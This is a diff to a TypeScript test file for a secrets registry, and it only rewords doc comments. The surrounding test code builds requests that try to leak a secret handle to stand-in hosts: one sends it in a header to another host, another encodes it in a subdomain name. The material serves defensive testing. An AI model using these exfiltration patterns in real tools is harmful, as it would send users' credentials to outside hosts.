@@ -19,7 +19,7 @@ interface Seen {
 
 const SECRET = 'sk-live/4f+9Z "q\u00fc\\ 0123456789';
 
-/** Where a handle is sent that may not go there, by what the request then is. */
+/** Forbidden places for a handle, each with its request. */
 const WRONG_PLACES: Record<string, (handle: string, port: number) => [url: string, RequestInit?]> =
   {
     'a header to another host': (k, port) => [`http://other.test:${port}/`, { headers: { k } }],
@@ -44,7 +44,7 @@ const WRONG_PLACES: Record<string, (handle: string, port: number) => [url: strin
     'a name below the host': (k, port) => [`http://${k}.api.test:${port}/`],
   };
 
-/** Tries to see the value behind a handle, and to send it where it may not go. */
+/** Tries to read the value behind a handle, and to send it to a forbidden place. */
 export function handleAttacks(create: CreateRegistry): void {
   let server: CountingServer;
   let seen: Seen[] = [];
@@ -73,7 +73,7 @@ export function handleAttacks(create: CreateRegistry): void {
       execute: async (ctx) => execute((await ctx.secretsResolver?.handle('key')) ?? '', ctx),
     });
 
-  /** Sends the handle, and what the tool could read of the answer. */
+  /** Sends the handle. Returns what the tool could read of the answer. */
   const probe = async (value: string) => {
     let read: unknown;
     const outcome = await run(value, async (handle, ctx) => {
